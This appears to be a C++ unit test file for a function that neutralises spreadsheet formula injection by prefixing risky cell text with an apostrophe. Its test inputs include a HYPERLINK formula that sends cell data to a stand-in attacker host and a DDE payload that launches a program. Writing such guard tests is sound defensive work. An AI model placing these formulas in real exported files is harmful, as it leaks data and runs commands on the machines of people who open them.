#include <doctest/doctest.h>

#include <string>

#include "util/spreadsheet_guard.hpp"

using ecosys::detail::guard_spreadsheet_text;
using ecosys::detail::unguard_spreadsheet_text;

TEST_CASE("text starting with = + - @ TAB or CR gets a leading apostrophe") {
    CHECK(guard_spreadsheet_text("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")") ==
          "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
    CHECK(guard_spreadsheet_text("+1+cmd|' /C calc'!A0") == "'+1+cmd|' /C calc'!A0");
    CHECK(guard_spreadsheet_text("-2+3") == "'-2+3");
    CHECK(guard_spreadsheet_text("@SUM(A1:A9)") == "'@SUM(A1:A9)");
    CHECK(guard_spreadsheet_text("\t=1") == "'\t=1");
    CHECK(guard_spreadsheet_text("\r=1") == "'\r=1");
    // Text that merely looks like a negative number is text too: the caller
    // passes only text cells, numbers never reach the guard.
    CHECK(guard_spreadsheet_text("-0.25") == "'-0.25");
}

TEST_CASE("other text is left as it is") {
    CHECK(guard_spreadsheet_text("") == "");
    CHECK(guard_spreadsheet_text("tohoku-u") == "tohoku-u");
    CHECK(guard_spreadsheet_text("東北大学") == "東北大学");
    CHECK(guard_spreadsheet_text(" =1") == " =1");
    CHECK(guard_spreadsheet_text("a=b") == "a=b");
    CHECK(guard_spreadsheet_text("'s-Hertogenbosch") == "'s-Hertogenbosch");
    CHECK(guard_spreadsheet_text("'") == "'");
}

TEST_CASE("text that already looks guarded gets a guard of its own") {
    CHECK(guard_spreadsheet_text("'=1") == "''=1");
    CHECK(guard_spreadsheet_text("''") == "'''");
    CHECK(guard_spreadsheet_text("'@x") == "''@x");
}

TEST_CASE("unguarding removes exactly the guard") {
    CHECK(unguard_spreadsheet_text("'=1") == "=1");
    CHECK(unguard_spreadsheet_text("''=1") == "'=1");
    CHECK(unguard_spreadsheet_text("'-0.25") == "-0.25");
    CHECK(unguard_spreadsheet_text("'s-Hertogenbosch") == "'s-Hertogenbosch");
    CHECK(unguard_spreadsheet_text("'") == "'");
    CHECK(unguard_spreadsheet_text("=1") == "=1");
    CHECK(unguard_spreadsheet_text("") == "");
    for (const std::string s : {"=1", "'=1", "''=1", "'", "''", "'''", "'a", "-", "@", "\t", "x", "'\r", "'s"})
        CHECK(unguard_spreadsheet_text(guard_spreadsheet_text(s)) == s);
}
